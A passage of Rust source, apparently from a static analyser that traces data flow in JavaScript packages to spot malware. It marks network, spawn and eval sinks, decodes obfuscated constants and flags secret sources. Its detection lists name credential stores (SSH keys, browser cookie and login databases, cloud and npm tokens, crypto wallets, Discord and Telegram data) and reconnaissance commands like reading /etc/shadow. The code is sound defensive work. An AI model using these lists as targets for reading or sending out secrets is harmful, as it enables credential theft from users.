                        // `sock.send(msg, [offset, length,] port, address)`.
                        let datagram_dest = (method == "send")
                            .then(|| self.datagram_dest(arguments))
                            .flatten();
                        let s = self.sink(
                            SinkKind::Network,
                            at,
                            &format!(".{method}()"),
                            data.clone(),
                            Some(r),
                            datagram_dest,
                        );
                        self.f.sinks[s].receiver = Some(r);
                        self.f.sinks[s].needs = Some(SourceKind::NetHandle);
                        if matches!(method, "write" | "end") {
                            let s = self.sink(
                                SinkKind::FileWrite,
                                at,
                                &format!(".{method}()"),
                                data,
                                None,
                                None,
                            );
                            self.f.sinks[s].receiver = Some(r);
                            self.f.sinks[s].needs = Some(SourceKind::FileHandle);
                        }
                    }
                }
                "pipe" => {
                    if let Some(Some(dst)) = args.first() {
                        let s =
                            self.sink(SinkKind::Network, at, ".pipe()", vec![r], Some(*dst), None);
                        self.f.sinks[s].receiver = Some(*dst);
                        self.f.sinks[s].needs = Some(SourceKind::NetHandle);
                        let s = self.sink(SinkKind::FileWrite, at, ".pipe()", vec![r], None, None);
                        self.f.sinks[s].receiver = Some(*dst);
                        self.f.sinks[s].needs = Some(SourceKind::FileHandle);
                        return Some(*dst);
                    }
                }
                _ => {}
            }
        }
        let what = match method {
            "toString" => match first_str.as_deref() {
                Some("base64") | Some("base64url") => "base64",
                Some("hex") => "hex",
                _ => "",
            },
            "reverse" => "reversed",
            "charCodeAt" | "codePointAt" => "char codes",
            "update" | "final" => "cipher",
            "join" | "concat" => "concatenated",
            "replace" | "replaceAll" => "replaced",
            "split" | "match" | "matchAll" | "slice" | "substring" | "substr" | "exec" => "parsed",
            _ => "",
        };
        let mut parts = self.data_args(arguments, args);
        parts.push(recv);
        let r = self.node();
        // `nacl.sign.detached(msg, secretKey)`: a method of a signing namespace signs too.
        let signs_ns = member.is_some_and(|m| {
            matches!(m.object().without_parentheses(),
                Expression::StaticMemberExpression(o) if one_way(o.property.name.as_str()))
        });
        if !one_way(method) && !signs_ns {
            for p in parts.into_iter().flatten() {
                self.edge(p, r, what, at);
            }
        }
        // Methods that store their arguments in the receiver (`list.push(x)`, `map.set(k, v)`).
        if let Some(recv) = recv
            && matches!(
                method,
                "push" | "unshift" | "splice" | "set" | "add" | "append" | "fill" | "assign"
            )
        {
            for a in args.iter().flatten() {
                self.edge(*a, recv, "stored", at);
            }
        }
        // `src.copy(target, …)` (Buffer, typed arrays): the receiver's bytes land in the
        // first argument.
        if let Some(recv) = recv
            && method == "copy"
            && let Some(Some(target)) = args.first()
        {
            self.edge(recv, *target, "copied", at);
        }
        // A method of a local object (an imported module's function, a helper object).
        if let Some(recv) = recv {
            let arg_nodes: Vec<Node> = args.iter().map(|a| a.unwrap_or(VOID)).collect();
            self.method_site(recv, arg_nodes, r, at, Some(method));
        }
        let data = recv.unwrap_or(r);
        self.callbacks(arguments, args, data, r, at);
        Some(r)
    }

    /// The text a decoder call yields when its input is a constant (at least 16 characters).
    fn decoded_constant(&self, name: &str, arguments: &[Argument<'_>]) -> Option<String> {
        let vals: Vec<Val> = arguments
            .iter()
            .map(|a| a.as_expression().map_or(Val::Unknown, |e| self.env.eval(e)))
            .collect();
        let text = match name {
            "String.fromCharCode" | "String.fromCodePoint" => {
                let mut s = String::new();
                for v in &vals {
                    match v {
                        Val::Num(n) => s.push(char::from_u32(*n as u32)?),
                        Val::Arr(items) => {
                            for i in items {
                                let Val::Num(n) = i else { return None };
                                s.push(char::from_u32(*n as u32)?);
                            }
                        }
                        _ => return None,
                    }
                }
                s
            }
            _ => match vals.first()? {
                Val::Str(s) => match name {
                    "atob" => crate::decode::base64_text(s)?,
                    _ => crate::decode::base64_text(s).or_else(|| crate::decode::hex_text(s))?,
                },
                Val::Arr(items) => {
                    let bytes: Option<Vec<u8>> = items
                        .iter()
                        .map(|i| match i {
                            Val::Num(n) => Some(*n as u8),
                            _ => None,
                        })
                        .collect();
                    crate::decode::printable(&bytes?)?
                }
                _ => return None,
            },
        };
        (text.chars().count() >= 16).then_some(text)
    }

    /// `a.b.c` when `a` is a global no binding declares.
    fn global_path(&self, e: &Expression<'_>) -> Option<String> {
        match e.without_parentheses() {
            Expression::Identifier(id) if self.env.symbol_of(id).is_none() => {
                Some(id.name.to_string())
            }
            Expression::StaticMemberExpression(m) => Some(format!(
                "{}.{}",
                self.global_path(&m.object)?,
                m.property.name
            )),
            // `(0, eval)(code)`: an indirect call of the global.
            Expression::SequenceExpression(s) => self.global_path(s.expressions.last()?),
            _ => None,
        }
    }

    /// The destination of a network call folded to a constant: a URL string, or the
    /// `hostname`/`host`/`url` of an options object.
    /// The address of a datagram send (`send(msg, [offset, length,] port, address)`): the
    /// constant host or IP right after a numeric port.
    fn datagram_dest(&self, arguments: &[Argument<'_>]) -> Option<String> {
        let exprs: Vec<&Expression<'_>> =
            arguments.iter().filter_map(|a| a.as_expression()).collect();
        exprs.windows(2).skip(1).find_map(|w| {
            let port = matches!(self.env.eval(w[0]), Val::Num(p) if (1.0..=65535.0).contains(&p));
            let host = self.env.eval(w[1]);
            let host = host.as_str()?;
            (port && (looks_like_host(host) || host.parse::<std::net::IpAddr>().is_ok()))
                .then(|| crate::signal::truncate(host, 200))
        })
    }

    fn fold_dest(&self, e: &Expression<'_>) -> Option<String> {
        if let Some(s) = self.env.eval(e).as_str()
            && (s.contains("://") || looks_like_host(s))
        {
            return Some(crate::signal::truncate(s, 200));
        }
        let obj = match e.without_parentheses() {
            Expression::ObjectExpression(o) => o,
            _ => return None,
        };
        for p in &obj.properties {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                continue;
            };
            let Some(k) = p.key.static_name() else {
                continue;
            };
            if matches!(k.as_ref(), "hostname" | "host" | "url" | "uri" | "baseURL")
                && let Some(s) = self.env.eval(&p.value).as_str()
                && !s.is_empty()
            {
                return Some(crate::signal::truncate(s, 200));
            }
            // `new RTCPeerConnection({ iceServers: [{ urls: 'turn:…' }] })`: a relay the
            // page's data channels pass through.
            if k.as_ref() == "iceServers"
                && let Some(url) = ice_server_url(&p.value, self.env)
            {
                return Some(crate::signal::truncate(&url, 200));
            }
        }
        None
    }

    /// A file path as a key: its folded constant, else the variable's name.
    fn path_key(&self, e: &Expression<'_>) -> Option<String> {
        if let Some(s) = self.env.eval(e).as_str()
            && !s.is_empty()
        {
            return Some(program_key(s));
        }
        match e.without_parentheses() {
            Expression::Identifier(id) => Some(format!("${}", id.name)),
            _ => None,
        }
    }
}

impl<'a> Visit<'a> for Builder<'_, '_> {
    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
        let value = self.func(it.span.start, &it.params);
        if let Some(id) = &it.id
            && it.r#type == FunctionType::FunctionDeclaration
            && let Some(sym) = id.symbol_id.get()
        {
            let v = self.var(sym);
            self.edge(value, v, "", it.span.start);
            if let Some(&(idx, _)) = self.funcs.get(&it.span.start) {
                self.func_syms.insert(sym, idx);
                self.f.funcs[idx as usize].names.push(id.name.to_string());
            }
        }
        let ret = self.ret_of(it.span.start).unwrap_or(VOID);
        self.stack.push(ret);
        walk::walk_function(self, it, flags);
        self.stack.pop();
    }

    fn visit_class(&mut self, it: &Class<'a>) {
        let cls = self.node();
        for el in &it.body.body {
            if let ClassElement::MethodDefinition(m) = el
                && let Some(name) = m.key.static_name()
            {
                let f = &m.value;
                let fnode = self.func(f.span.start, &f.params);
                self.name_at(f.span.start, &f.params, &name);
                self.edge(fnode, cls, "", f.span.start);
            }
        }
        self.classes.push(cls);
        walk::walk_class(self, it);
        self.classes.pop();
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        self.func(it.span.start, &it.params);
        let ret = self.ret_of(it.span.start).unwrap_or(VOID);
        if let Some(body) = it.body.as_expression()
            && let Some(v) = self.expr(body)
        {
            self.edge(v, ret, "returned", body.span().start);
        }
        self.stack.push(ret);
        walk::walk_arrow_function_expression(self, it);
        self.stack.pop();
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        if let Some(arg) = &it.argument
            && let Some(&ret) = self.stack.last()
            && let Some(v) = self.expr(arg)
        {
            self.edge(v, ret, "returned", it.span.start);
        }
        walk::walk_return_statement(self, it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init
            && let Some(v) = self.expr(init)
        {
            self.bind(&it.id, v, it.span.start);
            let span = match init.without_parentheses() {
                Expression::FunctionExpression(f) => Some(f.span.start),
                Expression::ArrowFunctionExpression(a) => Some(a.span.start),
                _ => None,
            };
            if let (Some(span), BindingPattern::BindingIdentifier(id)) = (span, &it.id)
                && let Some(sym) = id.symbol_id.get()
                && let Some(&(idx, _)) = self.funcs.get(&span)
            {
                self.func_syms.insert(sym, idx);
                self.f.funcs[idx as usize].names.push(id.name.to_string());
            }
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_expression_statement(&mut self, it: &ExpressionStatement<'a>) {
        self.expr(&it.expression);
        walk::walk_expression_statement(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        // Calls nested where no statement asks for their value (conditions, arguments of
        // unknown calls) still create their sinks.
        let key = (it.span.start, it.span.end, TAG_CALL);
        if !self.memo.contains_key(&key) {
            let n = self.call(it);
            self.memo.insert(key, n);
        }
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        let key = (it.span.start, it.span.end, TAG_NEW);
        if !self.memo.contains_key(&key) {
            let n = self.new_expr(it);
            self.memo.insert(key, n);
        }
        walk::walk_new_expression(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        let key = (it.span.start, it.span.end, TAG_ASSIGN);
        if !self.memo.contains_key(&key) {
            let n = self.assign(it);
            self.memo.insert(key, n);
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_for_of_statement(&mut self, it: &ForOfStatement<'a>) {
        if let Some(v) = self.expr(&it.right) {
            self.for_left(&it.left, v, it.span.start);
        }
        walk::walk_for_of_statement(self, it);
    }

    fn visit_for_in_statement(&mut self, it: &ForInStatement<'a>) {
        if let Some(v) = self.expr(&it.right) {
            self.for_left(&it.left, v, it.span.start);
        }
        walk::walk_for_in_statement(self, it);
    }

    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        let spec = it.source.value.as_str();
        if spec.starts_with('.')
            && let Some(specs) = &it.specifiers
        {
            let n = self.node();
            self.f.imports.push((n, spec.to_string()));
            for s in specs {
                let local = match s {
                    ImportDeclarationSpecifier::ImportSpecifier(s) => &s.local,
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(s) => &s.local,
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(s) => &s.local,
                };
                if let Some(sym) = local.symbol_id.get() {
                    let v = self.var(sym);
                    self.edge(n, v, "imported", it.span.start);
                }
            }
        }
        walk::walk_import_declaration(self, it);
    }

    fn visit_export_named_declaration(&mut self, it: &ExportNamedDeclaration<'a>) {
        for s in &it.specifiers {
            if let ModuleExportName::IdentifierReference(id) = &s.local
                && let Some(sym) = self.env.symbol_of(id)
            {
                let v = self.var(sym);
                let e = self.exports();
                self.edge(v, e, "exported", it.span.start);
                self.aliases.push((sym, s.exported.name().to_string()));
            }
        }
        walk::walk_export_named_declaration(self, it);
    }

    fn visit_export_declaration(&mut self, it: &ExportDeclaration<'a>) {
        walk::walk_export_declaration(self, it);
        let at = it.span.start;
        match &it.declaration {
            Declaration::VariableDeclaration(d) => {
                for decl in &d.declarations {
                    if let BindingPattern::BindingIdentifier(id) = &decl.id
                        && let Some(sym) = id.symbol_id.get()
                    {
                        let v = self.var(sym);
                        let e = self.exports();
                        self.edge(v, e, "exported", at);
                    }
                }
            }
            Declaration::FunctionDeclaration(f) => {
                if let Some(sym) = f.id.as_ref().and_then(|id| id.symbol_id.get()) {
                    let v = self.var(sym);
                    let e = self.exports();
                    self.edge(v, e, "exported", at);
                }
            }
            _ => {}
        }
    }

    fn visit_export_default_declaration(&mut self, it: &ExportDefaultDeclaration<'a>) {
        let at = it.span.start;
        let v = match &it.declaration {
            ExportDefaultDeclarationKind::FunctionDeclaration(f) => {
                Some(self.func(f.span.start, &f.params))
            }
            other => other.as_expression().and_then(|e| self.expr(e)),
        };
        if let Some(v) = v {
            let e = self.exports();
            self.edge(v, e, "exported", at);
        }
        walk::walk_export_default_declaration(self, it);
    }

    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
        self.reexport(it.source.value.as_str(), it.span.start);
        walk::walk_export_all_declaration(self, it);
    }

    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
        self.reexport(it.source.value.as_str(), it.span.start);
        walk::walk_export_from_declaration(self, it);
    }
}

const TAG_NEW: u8 = 21;
const TAG_ASSIGN: u8 = 11;
const TAG_CALL: u8 = 14;

impl Builder<'_, '_> {
    /// Calls of a function by the name it was declared with (never reassigned) are linked
    /// now, not through labels: arguments to parameters, return value to the result.
    fn link_direct_calls(&mut self) {
        for (sym, name) in std::mem::take(&mut self.aliases) {
            if let Some(&idx) = self.func_syms.get(&sym) {
                self.f.funcs[idx as usize].names.push(name);
            }
        }
        let by_node: FastMap<Node, u32> = self
            .func_syms
            .iter()
            .filter(|(sym, _)| !self.env.scoping.symbol_is_mutated(**sym))
            .filter_map(|(sym, idx)| Some((*self.vars.get(sym)?, *idx)))
            .collect();
        if by_node.is_empty() {
            return;
        }
        let calls = std::mem::take(&mut self.f.calls);
        for c in calls {
            let Some(&idx) = by_node.get(&c.callee) else {
                self.f.calls.push(c);
                continue;
            };
            let func = self.f.funcs[idx as usize].clone();
            let arg = Step::new(c.line, "argument");
            for (a, p) in c.args.iter().zip(&func.params) {
                if *a != VOID && *p != VOID {
                    self.call_edge(idx, c.result, true);
                    self.f.edges.push((*a, *p, arg));
                }
            }
            if func.ret != VOID && c.result != VOID {
                let ret = Step::new(c.line, "returned");
                self.call_edge(idx, c.result, false);
                self.f.edges.push((func.ret, c.result, ret));
            }
        }
    }

    /// Records that the next edge enters (or leaves) function `func` at the call whose
    /// result is `call` (see [`CallEdge`]).
    fn call_edge(&mut self, func: u32, call: Node, enter: bool) {
        self.f.call_edges.push(CallEdge {
            edge: self.f.edges.len() as u32,
            func,
            call,
            enter,
        });
    }

    fn for_left(&mut self, left: &ForStatementLeft<'_>, v: Node, at: u32) {
        match left {
            ForStatementLeft::VariableDeclaration(d) => {
                for decl in &d.declarations {
                    self.bind(&decl.id, v, at);
                }
            }
            other => {
                if let Some(t) = other.as_assignment_target() {
                    self.assign_target(t, v, at);
                }
            }
        }
    }

    fn reexport(&mut self, spec: &str, at: u32) {
        if !spec.starts_with('.') {
            return;
        }
        let n = self.node();
        self.f.imports.push((n, spec.to_string()));
        let e = self.exports();
        self.edge(n, e, "exported", at);
    }
}

/// Methods whose meaning does not depend on the receiver (see [`Builder::method`]).
const DOM_METHODS: &[&str] = &[
    "querySelector",
    "querySelectorAll",
    "getElementsByTagName",
    "getElementsByName",
    "getElementById",
    "getElementsByClassName",
    "closest",
    "addEventListener",
    "getData",
    "readText",
];

/// True when a `+` chain has a string literal or template among its operands.
/// Parameter names that hold a wallet secret: a seed, a mnemonic (recovery phrase) or a
/// private key, in the spellings SDKs use. Not `secret` or `secretKey` alone (API clients
/// send those to their own service).
pub(crate) fn is_wallet_secret_name(name: &str) -> bool {
    let n: String = name
        .chars()
        .filter(|c| *c != '_')
        .collect::<String>()
        .to_ascii_lowercase();
    matches!(
        n.as_str(),
        "seed"
            | "seedphrase"
            | "seedwords"
            | "mnemonic"
            | "mnemonicphrase"
            | "recoveryphrase"
            | "secretphrase"
            | "privatekey"
            | "privkey"
            | "walletkey"
            | "walletseed"
            | "walletmnemonic"
            | "walletprivatekey"
    )
}

/// Calls whose result does not carry their input in readable form: signing, key
/// derivation, hashing (`wallet.sign(tx, privateKey)`, `deriveKeypair(seed)`).
fn one_way(method: &str) -> bool {
    let m = method.to_ascii_lowercase();
    let signs = m == "sign"
        || (method.starts_with("sign")
            && method
                .get(4..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_uppercase()))
            && !matches!(m.get(4..), Some("up" | "in" | "out" | "on" | "al")));
    signs
        || m.starts_with("derive")
        || m.starts_with("getpublickey")
        || m.starts_with("publickeycreate")
        || matches!(
            m.as_str(),
            "toaddress" | "computeaddress" | "keccak256" | "sha256" | "hash" | "hmac"
        )
}

fn has_string_operand(e: &Expression<'_>) -> bool {
    match e.without_parentheses() {
        Expression::StringLiteral(_) | Expression::TemplateLiteral(_) => true,
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
            has_string_operand(&b.left) || has_string_operand(&b.right)
        }
        _ => false,
    }
}

/// A memo tag per expression kind (two expressions can share a span: `a?.b()` and its call).
fn tag(e: &Expression<'_>) -> u8 {
    match e {
        Expression::CallExpression(_) => TAG_CALL,
        Expression::NewExpression(_) => TAG_NEW,
        Expression::AssignmentExpression(_) => TAG_ASSIGN,
        Expression::ChainExpression(_) => 15,
        Expression::ParenthesizedExpression(_) => 23,
        Expression::StaticMemberExpression(_) => 50,
        Expression::ComputedMemberExpression(_) => 51,
        Expression::Identifier(_) => 7,
        _ => 0,
    }
}

/// An HTTP request handler's parameters: `(req, res)`, `(request, response)`,
/// `(request, reply)`, with or without `next`.
fn is_request_handler(params: &FormalParameters<'_>) -> bool {
    let name = |i: usize| match params.items.get(i).map(|p| &p.pattern) {
        Some(BindingPattern::BindingIdentifier(id)) => Some(id.name.as_str()),
        _ => None,
    };
    matches!(name(0), Some("req" | "request"))
        && matches!(name(1), Some("res" | "response" | "reply"))
}

/// A global or a package's API: not this package's own code (relative modules are, and are
/// linked through their exports).
fn is_external(v: &Val) -> bool {
    match v {
        Val::Global(_) => true,
        Val::Module(m, _) => !m.starts_with('.') && !m.starts_with('/'),
        _ => false,
    }
}

fn is_function_arg(a: &Argument<'_>) -> bool {
    matches!(
        a.as_expression().map(|e| e.without_parentheses()),
        Some(Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_))
    )
}

/// What an external API does (see [`Api`]).
fn api_of(callee: &Val, args: &[Argument<'_>], env: &Env<'_>) -> Api {
    match callee {
        Val::Module(m, p) => module_api(m, p, args, env),
        Val::Global(g) => global_api(g, args, env),
        _ => Api::Other,
    }
}

fn module_api(m: &str, p: &str, args: &[Argument<'_>], env: &Env<'_>) -> Api {
    let last = p.rsplit('.').next().unwrap_or(p);
    if m == "dns" || m == "dns/promises" {
        return if last.starts_with("resolve") || last == "lookup" || last == "lookupService" {
            Api::Dns
        } else {
            Api::Other
        };
    }
    if NET_MODULES.contains(&m) {
        return match last {
            // Listening (http2's `createSecureServer` with certificate options), not sending.
            "createServer" | "createSecureServer" | "listen" | "Server" | "SecureServer"
            | "Agent" | "STATUS_CODES" | "isIP" | "isIPv4" | "isIPv6" => Api::Other,
            // Process-wide settings, not requests.
            "setGlobalProxyFromEnv"
            | "setDefaultAutoSelectFamily"
            | "setDefaultAutoSelectFamilyAttemptTimeout"
            | "setMaxIdleHTTPParsers"
            | "validateHeaderName"
            | "validateHeaderValue"
            | "globalAgent"
            | "METHODS"
            | "maxHeaderSize" => Api::Sanitize,
            _ => Api::Network,
        };
    }
    if SPAWN_MODULES.contains(&m) {
        return match last {
            "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync" | "fork"
            | "" | "sync" | "command" | "commandSync" | "execa" | "execaSync" | "execaCommand"
            | "$" => Api::Spawn,
            _ => Api::Other,
        };
    }
    match m {
        // SMTP: the transport carries the server, `sendMail` on it sends.
        "nodemailer" if last == "createTransport" || last == "createTransporter" => {
            Api::MailTransport
        }
        "fs" if FS_READ.contains(&last) => Api::FsRead,
        "fs" if FS_WRITE.contains(&last) && last != "createWriteStream" => Api::FsWrite,
        "fs" if last == "createWriteStream" => Api::FsStream,
        "fs" if matches!(
            last,
            "existsSync" | "exists" | "statSync" | "stat" | "lstatSync" | "accessSync"
        ) =>
        {
            Api::Sanitize
        }
        // A context is a sandbox object, not code.
        "vm" if matches!(last, "createContext" | "isContext" | "measureMemory") => {
            Api::Transform("")
        }
        "vm" if !p.is_empty() => Api::Eval,
        // `new Worker(source, { eval: true })`: the first argument is code, not a path.
        "worker_threads" if last == "Worker" && eval_option(args, env) => Api::Eval,
        "module" if last == "_compile" => Api::Eval,
        _ if last == "_compile" => Api::Eval,
        "crypto" if last.starts_with("createDecipher") || last == "privateDecrypt" => Api::Decipher,
        "crypto" if last.starts_with("createCipher") || last == "publicEncrypt" => {
            Api::Transform("encrypted")
        }
        "crypto"
            if matches!(
                last,
                "createHash" | "createHmac" | "randomBytes" | "randomUUID" | "timingSafeEqual"
            ) =>
        {
            Api::Sanitize
        }
        "os" => match last {
            "hostname" => Api::Source(SourceKind::HostName),
            "userInfo" => Api::Source(SourceKind::UserName),
            "networkInterfaces" => Api::Source(SourceKind::NetAddress),
            "homedir" | "tmpdir" => Api::Transform(""),
            _ => Api::Sanitize,
        },
        "zlib"
            if last.starts_with("inflate")
                || last.starts_with("gunzip")
                || last.starts_with("unzip")
                || last.starts_with("brotliDecompress") =>
        {
            Api::Decode("inflated")
        }
        "zlib" => Api::Transform("compressed"),
        "querystring" | "qs" if last == "stringify" || last == "encode" => {
            Api::Transform("url-encoded")
        }
        "path" | "util" | "url" | "querystring" | "qs" | "buffer" | "string_decoder" => {
            Api::Transform("")
        }
        _ => {
            let _ = (args, env);
            Api::Other
        }
    }
}

fn global_api(g: &str, args: &[Argument<'_>], env: &Env<'_>) -> Api {
    let arg = |i: usize| args.get(i).and_then(|a| a.as_expression());
    match g {
        "eval" | "Function" | "setTimeout" | "setInterval" | "setImmediate" | "execScript" => {
            Api::Eval
        }
        "fetch"
        | "XMLHttpRequest"
        | "WebSocket"
        | "EventSource"
        | "RTCPeerConnection"
        | "webkitRTCPeerConnection"
        | "WebTransport"
        | "importScripts"
        | "navigator.sendBeacon"
        | "$.ajax"
        | "$.post"
        | "$.get"
        | "$.getJSON"
        | "$.getScript"
        | "jQuery.ajax"
        | "jQuery.post"
        | "jQuery.get"
        | "axios"
        | "axios.post"
        | "axios.get"
        | "axios.request"
        | "open"
        | "window.open" => Api::Network,
        "Bun.spawn" | "Bun.spawnSync" | "Deno.run" | "Deno.Command" => Api::Spawn,
        "atob" => Api::Decode("base64-decoded"),
        "String.fromCharCode" | "String.fromCodePoint" => Api::Decode("char codes"),
        "unescape" | "decodeURIComponent" | "decodeURI" => Api::Transform("url-decoded"),
        "btoa" => Api::Transform("base64"),
        "escape" | "encodeURIComponent" | "encodeURI" => Api::Transform("url-encoded"),
        "JSON.stringify" => Api::Transform("JSON.stringify"),
        "Object.keys" => Api::Transform(crate::flow::SERIALIZED_KEYS),
        "Object.entries" | "Object.values" => Api::Transform(crate::flow::SERIALIZED),
        "Object.assign"
        | "Object.defineProperty"
        | "Object.defineProperties"
        | "Object.fromEntries"
        | "Array.from"
        | "JSON.parse"
        | "Promise.all"
        | "Promise.resolve"
        | "Promise.allSettled"
        | "Promise.race"
        | "String" => Api::Transform(""),
        "Buffer.from" => {
            let enc = arg(1).map(|e| env.eval(e));
            match enc.as_ref().and_then(|v| v.as_str()) {
                Some("base64" | "base64url") => Api::Decode("base64-decoded"),
                Some("hex") => Api::Decode("hex-decoded"),
                _ if matches!(
                    arg(0).map(|e| e.without_parentheses()),
                    Some(Expression::ArrayExpression(_))
                ) =>
                {
                    Api::Decode("bytes")
                }
                _ => Api::Transform(""),
            }
        }
        "process.cwd" => Api::Transform(""),
        "navigator.clipboard.readText" | "navigator.clipboard.read" => {
            Api::Source(SourceKind::Clipboard)
        }
        "ethereum.request" | "ethereum.enable" | "ethereum.send" | "ethereum.sendAsync" => {
            Api::Source(SourceKind::Wallet)
        }
        // `parseInt(bits, 2)`, `parseInt(pair, 16)`: digits decoded to the numbers that
        // `String.fromCharCode` turns back into text (bit and hex decoders), not a sanitizer.
        "parseInt" if matches!(arg(1).map(|e| env.eval(e)), Some(Val::Num(r)) if r == 2.0 || r == 16.0) => {
            Api::Transform("radix-decoded")
        }
        "Number" | "parseInt" | "parseFloat" | "Boolean" | "isNaN" | "Array.isArray"
        | "Math.random" | "Date.now" | "Math.floor" | "Math.max" | "Math.min" | "Math.round" => {
            Api::Sanitize
        }
        "require.resolve" => Api::Transform(""),
        _ if g.starts_with("process.env.") => Api::Transform(""),
        _ if g.starts_with("console.") => Api::Sanitize,
        _ => Api::Other,
    }
}

/// The source kind of one environment variable by name: a secret-looking name, the user or
/// host name; `None` for ordinary configuration (`NODE_ENV`, `PATH`).
fn env_key_kind(key: &str) -> Option<SourceKind> {
    let k = key.to_ascii_uppercase();
    if matches!(k.as_str(), "USER" | "USERNAME" | "LOGNAME" | "USERPROFILE") {
        return Some(SourceKind::UserName);
    }
    if matches!(k.as_str(), "HOSTNAME" | "COMPUTERNAME" | "USERDOMAIN") {
        return Some(SourceKind::HostName);
    }
    let secret = [
        "TOKEN",
        "SECRET",
        "PASSW",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE",
        "CREDENTIAL",
        "AUTH",
        "ACCESS_KEY",
        "SESSION",
        "WEBHOOK",
        "MNEMONIC",
        "SEED",
    ];
    secret
        .iter()
        .any(|s| k.contains(s))
        .then_some(SourceKind::EnvSecret)
}

/// The credential store a path or name names (text indicators plus store files that only
/// count inside a read path: browser cookie/login databases, Firefox's, Telegram's…).
pub(crate) fn credential_store(s: &str) -> Option<String> {
    if !STORE_HINTS.is_match(s) {
        return None;
    }
    let mut sigs = Vec::new();
    crate::text::scan_literal(s, 0, 0, &mut sigs);
    if let Some(sig) = sigs.iter().find(|x| {
        matches!(
            x.kind,
            Kind::CredentialPath | Kind::DotenvPath | Kind::NpmToken
        )
    }) {
        return Some(sig.detail.clone());
    }
    let t = s.trim_matches('/').trim_matches('\\');
    let lower = t.to_ascii_lowercase();
    const STORES: &[&str] = &[
        "logins.json",
        "key4.db",
        "key3.db",
        "cookies.sqlite",
        "formhistory.sqlite",
        "web data",
        "cookies",
        "network/cookies",
        "tdata",
        ".bash_history",
        ".zsh_history",
        ".git-credentials",
        ".netrc",
        ".config/gcloud",
        "application_default_credentials.json",
        ".azure",
        "keychains",
        "login.keychain-db",
        "discord",
        "discordcanary",
        "leveldb",
        ".env",
    ];
    let last = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
    STORES
        .iter()
        .find(|x| lower == **x || last == **x || lower.ends_with(&format!("/{x}")))
        .map(|x| x.to_string())
}

/// Words every credential store name contains one of (a cheap filter before the full
/// indicator search).
static STORE_HINTS: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build([
                ".npmrc",
                "npm_token",
                "authtoken",
                ".ssh",
                "id_rsa",
                "id_ed25519",
                ".aws",
                "docker",
                ".kube",
                "credential",
                ".pypirc",
                "login data",
                "local storage",
                "local state",
                "wallet",
                "solana",
                "nkbihfbeogaeaoehlefnkodbefgpgknn",
                "keystore",
                "exodus",
                "electrum",
                "metamask",
                ".gnupg",
                ".netrc",
                ".env",
                "logins.json",
                "key4.db",
                "key3.db",
                "cookies",
                "web data",
                "tdata",
                "history",
                "gcloud",
                ".azure",
                "keychain",
                "discord",
                "leveldb",
            ])
            .expect("static patterns build")
    });

/// A file of the package that holds data rather than code (by extension).
fn is_data_file(p: &str) -> bool {
    let lower = p.to_ascii_lowercase();
    if lower.starts_with("/.") || lower.starts_with("~") || lower.starts_with("/etc") {
        return false;
    }
    [
        ".dat", ".bin", ".json", ".png", ".jpg", ".jpeg", ".gif", ".ico", ".bmp", ".webp", ".txt",
        ".css", ".svg", ".woff", ".woff2", ".ttf", ".wasm", ".db", ".enc", ".data", ".log", ".md",
    ]
    .iter()
    .any(|e| lower.ends_with(e))
}

/// A file name (or relative path) of a binary package data file: images, fonts, `.bin`,
/// `.dat`, `.wasm` — files that hold no source code. No spaces, no URL.
fn data_file_name(s: &str) -> bool {
    const EXT: &[&str] = &[
        ".png", ".jpg", ".jpeg", ".gif", ".ico", ".bmp", ".webp", ".woff", ".woff2", ".ttf",
        ".bin", ".dat", ".data", ".enc", ".wasm", ".db", ".node",
    ];
    let Some(dot) = s.rfind('.') else {
        return false;
    };
    // A name before the dot: `.jpeg` alone is an extension in a list (knip's workspace
    // filters), not a file the package reads.
    dot > 0
        && s.len() > 4
        && !s.contains([' ', ':', '?', '\n', '<', '\'', '"', '*'])
        && EXT.iter().any(|e| s[dot..].eq_ignore_ascii_case(e))
}

/// The base name of a program or path, lowercased, without `.exe`.
fn program_key(p: &str) -> String {
    let base = p.split_whitespace().next().unwrap_or("");
    let base = base
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(base)
        .to_ascii_lowercase();
    base.trim_end_matches(".exe").to_string()
}

/// Host-information commands and what they print.
fn host_command(cmd: &str) -> Option<SourceKind> {
    let first = cmd.split_whitespace().next()?;
    let first = first.rsplit(['/', '\\']).next().unwrap_or(first);
    match first {
        "whoami" | "id" => Some(SourceKind::UserName),
        "hostname" | "uname" => Some(SourceKind::HostName),
        "ipconfig" | "ifconfig" | "ip" | "getmac" | "arp" => Some(SourceKind::NetAddress),
        "cat" if cmd.contains("/etc/passwd") || cmd.contains("/etc/shadow") => {
            Some(SourceKind::Credential)
        }
        _ => None,
    }
}

/// The first constant ICE server URL of an `iceServers` array (`[{ urls: 'turn:…' }]`, `urls`
/// a string or an array of strings): where a peer connection's relayed data goes.
/// The array may be extended (`servers.concat([RELAY])`) and its entries may be constant
/// objects named elsewhere (`const RELAY = { urls: 'turn:…' }`).
fn ice_server_url(e: &Expression<'_>, env: &Env<'_>) -> Option<String> {
    let a = match e.without_parentheses() {
